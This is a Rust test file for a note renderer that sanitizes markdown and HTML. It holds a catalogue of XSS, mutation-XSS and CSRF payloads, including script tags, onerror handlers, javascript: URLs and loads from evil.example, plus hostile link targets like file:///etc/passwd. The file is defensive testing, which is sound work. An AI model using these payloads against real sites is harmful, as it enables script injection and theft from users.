use super::*;

fn shown(text: &str) -> String {
    shown_with(text, &[])
}

fn shown_with(text: &str, targets: &[(&str, &str)]) -> String {
    let targets = targets.iter().map(|(written, path)| ((*written).to_owned(), (*path).to_owned())).collect();
    show(text, &Surroundings { targets, ..Surroundings::default() }).html.into_string()
}

#[test]
fn links_lead_to_notes_and_nowhere_else() {
    let targets = [("Other#Part two", "a/Other.md"), ("My note.md", "My note.md"), ("p.pdf", "p.pdf")];
    let html = shown_with("[[Other#Part two|there]] [x](My%20note.md) [[p.pdf]] [[Gone]] [y](#Part%20two)", &targets);
    for part in [
        "<a href=\"/ui/note?path=a/Other.md#n-part-two\" rel=\"noopener noreferrer nofollow\">there</a>",
        "<a href=\"/ui/note?path=My%20note.md\"",
        "<a href=\"/ui/file?path=p.pdf\"",
        "<span class=\"missing\" title=\"There is no such note\">Gone</span>",
        "<a href=\"#n-part-two\"",
    ] {
        assert!(html.contains(part), "{part}: {html}");
    }
    let html = shown_with("| a |\n|---|\n| [[Other#Part two\\|there]] |", &targets);
    assert!(html.contains("#n-part-two\" rel=\"noopener noreferrer nofollow\">there</a></td>"), "{html}");
    for written in [
        "javascript:alert(1)",
        "data:text/html,x",
        "vbscript:x",
        "//evil.example/x",
        "file:///etc/passwd",
        "\\\\evil\\x",
    ] {
        let html = shown(&format!("[x](<{written}>) [[{written}]]"));
        assert!(!html.contains("href"), "{written}: {html}");
    }
    assert!(shown("[x](https://e.org/?a=1&b=2)").contains("<a href=\"https://e.org/?a=1&amp;b=2\""));
}

/// In HTML a link leads where one in markdown does, and looks like it.
#[test]
fn links_of_html_lead_to_other_sites_and_to_notes_alone() {
    for address in [
        "//evil.example",
        "/ui/approvals",
        "/ui/open/0123",
        "/ui/search?q=x",
        "/ui/note/../approvals",
        "/authorize?client_id=x",
        "Other.md",
        "?path=x",
        "\\\\evil.example",
        "/\\evil.example",
        "HTTPS://evil.example",
        " https://evil.example",
        "https:evil.example",
        "",
    ] {
        let html = shown(&format!("<a href=\"{address}\" class=\"outside button\">x</a>"));
        assert!(!html.contains("href") && !html.contains("button"), "{address}: {html}");
    }
    for address in
        ["https://e.org", "http://e.org", "mailto:a@e.org", "/ui/note?path=a.md", "/ui/file?path=p.pdf", "#n-part"]
    {
        let html = shown(&format!("<a href=\"{}\">x</a>", address.replace("#n-", "#")));
        assert!(html.contains(&format!("<a href=\"{address}\"")), "{address}: {html}");
    }
    let style = include_str!("../../assets/style.css");
    for beginning in super::clean::OUTSIDE {
        assert!(style.contains(&format!("[href^=\"{beginning}\"]")), "{beginning}");
    }
}

#[test]
fn pictures_come_from_the_vault_and_others_only_when_asked_for() {
    let html = shown_with("![[p.png|200]] ![a cat](q.jpg)", &[("p.png", "p.png"), ("q.jpg", "m/q.jpg")]);
    assert!(html.contains("<img src=\"/ui/file?path=p.png\" alt=\"p.png\" width=\"200\">"), "{html}");
    assert!(html.contains("<img src=\"/ui/file?path=m/q.jpg\" alt=\"a cat\">"), "{html}");
    let text =
        "![x](https://tracker.example/p.gif) <img src=\"https://tracker.example/q.gif\"> ![y](http://t.example/z)";
    let plain = show(text, &Surroundings::default());
    let html = plain.html.into_string();
    assert_eq!(plain.pictures, 2);
    assert!(!html.contains("src=") && html.contains("Picture of tracker.example"), "{html}");
    let asked = show(text, &Surroundings { with_pictures: true, ..Surroundings::default() }).html.into_string();
    assert_eq!(asked.matches("src=\"https://tracker.example/").count(), 2, "{asked}");
    assert!(!asked.contains("http://t.example"), "{asked}");
}

#[test]
fn obsidian_s_markdown_is_shown() {
    let html = shown(concat!(
        "---\ntitle: x\n---\n# One ==two==\n\nA #tag/sub and a#no and #12, ==marked==, ~~gone~~, $x^2$, %%hidden%% shown.\n\n",
        "- [x] done\n- [ ] open\n- [/] half\n\n> [!warning]- Mind *this*\n> the gap\n\n> [!Unknown]\n> text\n\n> plain\n\n",
        "| a | b |\n|---|---|\n| 1 | 2 |\n\nNote.[^1]\n\n[^1]: A foot.\n\n```mermaid\ngraph TD;%%keep%%\n```\n",
    ));
    for part in [
        "<h1 id=\"n-one-two\">One <mark>two</mark></h1>",
        "<a class=\"tag\" href=\"/ui/search?q=tag%3Atag/sub\"",
        "a#no and #12",
        "<mark>marked</mark>",
        "<del>gone</del>",
        "<span class=\"math math-inline\">x^2</span>",
        "☑</span> done",
        "☐</span> open",
        "title=\"status /\">[/]</span> half",
        "<details class=\"callout warning\"><summary>Mind <em>this</em></summary>\n<p>the gap</p>",
        "<div class=\"callout note\"><div class=\"title\">Unknown</div>\n<p>text</p>",
        "<blockquote>",
        "<td>1</td>",
        "href=\"#n-1\"",
        "id=\"n-1\"",
        "graph TD;%%keep%%",
    ] {
        assert!(html.contains(part), "{part}: {html}");
    }
    assert!(!html.contains("hidden") && !html.contains("title: x"), "{html}");
}

#[test]
fn a_note_that_embeds_another_without_end_shows_it_as_links() {
    let embeds = BTreeMap::from([("Big".to_owned(), PreEscaped("x".repeat(MAX_EMBEDDED / 4)))]);
    let targets = BTreeMap::from([("Big".to_owned(), "Big.md".to_owned())]);
    let surroundings = Surroundings { targets, embeds, ..Surroundings::default() };
    let html = show(&"![[Big]]\n\n".repeat(1000), &surroundings).html.into_string();
    assert_eq!(html.matches("class=\"embed\"").count(), 3);
    assert_eq!(html.matches("path=Big.md").count(), 1000);
    assert!(html.len() < 2 * MAX_EMBEDDED, "{} bytes", html.len());
}

#[test]
fn tags_that_are_not_closed_make_no_large_page() {
    let tags: String = (0..1000).map(|at| format!("<b title={at}>")).collect();
    let leaks: String = (0..450).map(|at| format!("<div><b title={at}><i q=\"\n\nx\n\n\"></div>\n\n")).collect();
    for text in [
        format!("{tags}\n\n{}", "x\n\n".repeat(20_000)),
        format!("x {tags}\n\n{}", "x\n\n".repeat(20_000)),
        format!("- {tags}\n{}", "- x\n".repeat(20_000)),
        format!("<div>{tags}{}", "<p>x".repeat(900)),
        format!("{leaks}{}", "x\n\n".repeat(20_000)),
        format!("| {tags} |\n|---|\n{}", "| x |\n".repeat(20_000)),
    ] {
        let html = shown(&text);
        assert!(html.len() < 4 << 20, "{} bytes of {}", html.len(), &text[..20]);
    }
    // Others stay what they are, around blocks too.
    let html = shown("<details>\n\na <b>b\n\nc</b> d\n\n</details>\n");
    assert!(html.starts_with("<details>") && html.trim_end().ends_with("</details>"), "{html}");
    assert!(html.contains("a <b>b</b></p>") && html.contains("<b>c</b> d</p>"), "{html}");
    let many = "<font>a</font>\n\n".repeat(300);
    assert!(!shown(&many).contains("&lt;"));
}

#[test]
fn the_outline_has_each_heading_once() {
    let shown = show("# A\n## B `c`\n## B `c`\n", &Surroundings::default());
    let heading = |level, text: &str, anchor: &str| Heading { level, text: text.to_owned(), anchor: anchor.to_owned() };
    assert_eq!(shown.headings, [heading(1, "A", "n-a"), heading(2, "B c", "n-b-c"), heading(2, "B c", "n-b-c-2")]);
    assert!(shown.html.into_string().contains("id=\"n-b-c-2\""));
}

/// Texts that run or load something in a browser, in every place that a note has for them.
#[test]
fn nothing_in_a_note_runs_or_loads() {
    let attacks = [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><script>alert(1)</script><a xlink:href=\"javascript:alert(1)\">x</a></svg>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<a href=\"java&#115;cript:alert(1)\" onclick=\"alert(1)\">x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<form action=/ui/approvals/approve method=post><button>x</button><input name=id></form>",
        "<style>body{background:url(https://evil.example/)}</style>",
        "<p style=\"background:url(https://evil.example/)\">x</p>",
        "<link rel=stylesheet href=https://evil.example/x.css><meta http-equiv=refresh content=\"0;url=https://evil.example\"><base href=https://evil.example/>",
        "<object data=https://evil.example/></object><embed src=https://evil.example/>",
        "<video src=https://evil.example/ autoplay></video><audio src=https://evil.example/></audio>",
        "<video poster=https://evil.example/></video><table background=https://evil.example/></table>",
        "<math><mtext></mtext><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\"></mglyph></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "[x](javascript:alert(1))",
        "![x](javascript:alert(1))",
        "![\"onerror=alert(1)](x \"\\\" onerror=alert(1)\")",
        "[[\"><script>alert(1)</script>]]",
        "![[\"><img src=x onerror=alert(1)>]]",
        "<https://evil.example/\"onmouseover=alert(1)>",
        "`<script>alert(1)</script>`",
        "```\n<script>alert(1)</script>\n```",
        "```\"><script>alert(1)</script>\nx\n```",
        "$<script>alert(1)</script>$",
        "> [!\"><script>alert(1)</script>] <script>alert(1)</script>\n> x",
        "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
        "[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: <script>alert(1)</script>",
        "# <script>alert(1)</script>",
        "#<script>alert(1)</script>",
        "==<script>alert(1)</script>==",
        "%%<script>%%alert(1)%%</script>%%",
        "<div id=content class=\"call primary bar\">x</div>",
        "<!--><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
    ];
    let whole = attacks.join("\n\n");
    for text in attacks.iter().copied().chain([whole.as_str()]) {
        for html in [shown(text), shown_with(text, &[("x", "x\"><script>alert(1)</script>.png")])] {
            let lower = html.to_lowercase();
            let tags: Vec<&str> =
                lower.split('<').skip(1).map(|rest| rest.split('>').next().unwrap_or_default()).collect();
            for tag in tags {
                let name = tag.trim_start_matches('/').split([' ', '\n']).next().unwrap_or_default();
                let is_known = [
                    "a",
                    "p",
                    "h1",
                    "img",
                    "span",
                    "div",
                    "pre",
                    "code",
                    "em",
                    "mark",
                    "blockquote",
                    "table",
                    "thead",
                    "tbody",
                    "tr",
                    "th",
                    "td",
                    "sup",
                    "audio",
                    "video",
                    "br",
                    "ul",
                    "li",
                    "details",
                    "summary",
                    "math",
                ]
                .contains(&name);
                assert!(is_known, "{text}: {tag}: {html}");
                // Outside of values.
                let names: String = tag.split('"').step_by(2).collect();
                assert!(
                    !names.contains(" on") && !names.contains("style=") && !names.contains("action="),
                    "{text}: {html}"
                );
                assert!(!tag.contains("=\"javascript:") && !tag.contains("src=\"http"), "{text}: {html}");
                assert!(!tag.contains("id=\"content") && !tag.contains("primary"), "{text}: {html}");
            }
        }
    }
}

#[test]
fn a_note_of_any_form_is_shown_soon() {
    for text in [
        "<div>",
        "<b><i>",
        "> ",
        ">",
        "- ",
        "1. ",
        "**a ",
        "\n> ",
        "~~",
        "[",
        "![[",
        "==",
        "#a ",
        "#\n",
        "# a\n",
        "[!x]\n> ",
        "`",
        "*_",
        "|a",
        "%%",
        "<a href=x>",
        "$",
        "&amp;",
    ] {
        let begun = std::time::Instant::now();
        let _ = shown(&text.repeat(250_000 / text.len()));
        let time = begun.elapsed();
        assert!(time.as_secs() < 10, "{text}: {time:?}");
    }
}

proptest::proptest! {
    #[test]
    fn any_text_is_shown_without_scripts(text in "([<>!\\[\\]()\"'`=#%$|:\\n /a-c]|<script>|</|javascript:|onerror=|\\[!note\\]|!\\[\\[){0,60}") {
        let html = shown(&text).to_lowercase();
        proptest::prop_assert!(!html.contains("<script") && !html.contains("<iframe"), "{}", html);
        for tag in html.split('<').skip(1) {
            let tag = tag.split('>').next().unwrap_or_default();
            let names: String = tag.split('"').step_by(2).collect();
            proptest::prop_assert!(!names.contains("onerror") && !tag.contains("=\"javascript:"), "{}", html);
        }
    }
}
